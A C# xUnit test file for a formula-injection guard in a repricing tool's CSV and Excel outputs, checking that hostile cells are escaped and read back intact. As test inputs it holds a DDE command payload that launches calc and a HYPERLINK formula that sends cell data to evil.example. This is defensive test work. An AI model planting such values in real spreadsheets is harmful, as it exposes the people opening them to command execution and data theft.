using System.IO;
using System.Linq;
using System.Text;
using RepricingPS.Core.Repricing;
using Xunit;

namespace RepricingPS.Core.Tests.Repricing
{
    /// <summary>Issue 8 item 7: formula injection in the repricing outputs, and the exact read-back.</summary>
    public class FormulaGuardTests
    {
        [Theory]
        [InlineData("=SUM(1)", "'=SUM(1)")]
        [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
        [InlineData("@SUM(1)", "'@SUM(1)")]
        [InlineData("-x", "'-x")]
        [InlineData("\tx", "'\tx")]
        [InlineData("\rx", "'\rx")]
        [InlineData("'=x", "''=x")]
        [InlineData("'", "''")]
        [InlineData("-30", "-30")]
        [InlineData("-5.00", "-5.00")]
        [InlineData("30", "30")]
        [InlineData("-", "'-")]
        [InlineData("-5.", "'-5.")]
        [InlineData("-.5", "'-.5")]
        [InlineData("-1e5", "'-1e5")]
        [InlineData("+5", "'+5")]
        [InlineData("a=b", "a=b")]
        [InlineData("", "")]
        public void Keep_EscapesFormulasButNeverPlainNumbers_AndReadsBackIdentical(string value, string stored)
        {
            Assert.Equal(stored, FormulaGuard.Escape(value, FormulaGuardNumbers.Keep));
            Assert.Equal(value, FormulaGuard.Unescape(stored, FormulaGuardNumbers.Keep));
        }

        [Theory]
        [InlineData("'-5")]
        [InlineData("'-30.25")]
        [InlineData("'+")]
        public void Keep_AUsersOwnApostropheTheGuardCouldNotHaveAdded_IsKept(string input)
        {
            // Repricing outputs never guard a plain number, so a ' before one in an input file is the user's data
            // (adversarial review: "'-5" used to come back as "-5"). "'+" alone is guarded from "+" and comes back as "+".
            string expected = input == "'+" ? "+" : input;
            Assert.Equal(expected, FormulaGuard.Unescape(input, FormulaGuardNumbers.Keep));
        }

        [Theory]
        [InlineData("-30", "'-30")]
        [InlineData("=1", "'=1")]
        [InlineData("'x", "''x")]
        [InlineData("x'", "x'")]
        public void Escape_EscapesNumbersToo_AndReadsBackIdentical(string value, string stored)
        {
            Assert.Equal(stored, FormulaGuard.Escape(value, FormulaGuardNumbers.Escape));
            Assert.Equal(value, FormulaGuard.Unescape(stored));
        }

        private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        private const string Cmd = "+cmd|' /C calc'!A0";

        [Fact]
        public void HostileValues_AreGuardedInEveryCsvOutput_NumbersUntouched_AndImportReadsThemBackIdentical()
        {
            using var run = new RepricingServiceTests.Run();
            string f1Text = WorkedExample.File1
                .Replace("ATORVASTATIN 20 MG TAB", Hyperlink.Replace("\"", "\"\"").Insert(0, "\"") + "\"")
                .Replace("MAIN ST PHARMACY", Cmd)
                .Replace("1005,Acme Health,2025-03-20,M003", "1005,Acme Health,2025-03-20,@SUM(1)")
                .Replace("SOURCERECORDID,ClientName,", "SOURCERECORDID,ClientName,")
                .Replace("GrossCost\r\n", "=GrossCost\r\n");
            string f1 = run.Write("file1.csv", f1Text);
            var r = run.Reprice(f1, run.Write("file2.csv", WorkedExample.File2));
            Assert.Equal((1, 2), (r.MatchedPairs, r.UnmatchedReversals)); // the values match as they are: the guard is an output matter

            string outDir = run.Dir.Combine("out");
            string merged = File.ReadAllText(Path.Combine(outDir, "Acme Health_merged_file_with_OR.csv"), Encoding.UTF8);
            string detail = File.ReadAllText(Path.Combine(outDir, "Acme Health Claim Detail.csv"), Encoding.UTF8);
            string unmatched = File.ReadAllText(Path.Combine(outDir, "Acme Health_unmatched_reversals.csv"), Encoding.UTF8);
            foreach (string text in new[] { merged, detail })
            {
                Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"", text);
                Assert.Contains(",\"'+cmd|' /C calc'!A0\",", text);
                Assert.Contains(",\"'@SUM(1)\",", text);
                Assert.Contains(",\"'=GrossCost\",", text);
                Assert.DoesNotContain(",=", text);
                Assert.DoesNotContain(",+", text);
                Assert.DoesNotContain(",@", text);
                Assert.Contains(",-30,-30,", text);     // a reversal's quantity and days supply
                Assert.Contains(",-45.10,", text);      // its AWP
                Assert.DoesNotContain("'-", text);
            }
            Assert.Contains("\r\n5,1005,2025-03-20,\"'@SUM(1)\",00002143380,-2\r\n", unmatched);

            // Import removes exactly the added ' : every value reads back as it was in File1.
            var original = run.Service.Import(f1, FileRole.File1, null, false, default);
            var back = run.Service.Import(Path.Combine(outDir, "Acme Health_merged_file_with_OR.csv"), FileRole.File1, null, false, default);
            Assert.Equal(original.Columns, back.Columns.Take(original.Columns.Length));
            var byKey = Enumerable.Range(0, back.RowCount).Select(back.Data.RowText).ToDictionary(row => row[0]);
            foreach (string[] row in Enumerable.Range(0, original.RowCount).Select(original.Data.RowText))
            {
                Assert.Equal(row, byKey[row[0]].Take(row.Length));
            }
            Assert.Equal(Hyperlink, byKey["1001"][5]);
        }

        [Fact]
        public void MergedWorkbook_HoldsHostileValuesAsTextCells_NeverAsFormulas()
        {
            using var run = new RepricingServiceTests.Run();
            string f1 = run.Write("file1.csv", WorkedExample.File1.Replace("LISINOPRIL 10 MG TAB", "=1+1"));
            run.Reprice(f1, run.Write("file2.csv", WorkedExample.File2), q => q.Xlsx = true);
            using var p = new OfficeOpenXml.ExcelPackage(new FileInfo(run.Dir.Combine("out", "Acme Health_merged_file_with_OR.xlsx")));
            var ws = p.Workbook.Worksheets.First();
            int drug = Enumerable.Range(1, 30).First(c => ws.Cells[1, c].Text == "Drug Name");
            var cell = Enumerable.Range(2, 9).Select(r => ws.Cells[r, drug]).Single(c => "=1+1".Equals(c.Value));
            Assert.True(string.IsNullOrEmpty(cell.Formula)); // a string cell: Excel shows it as text, the ' guard is a CSV matter
        }
    }
}
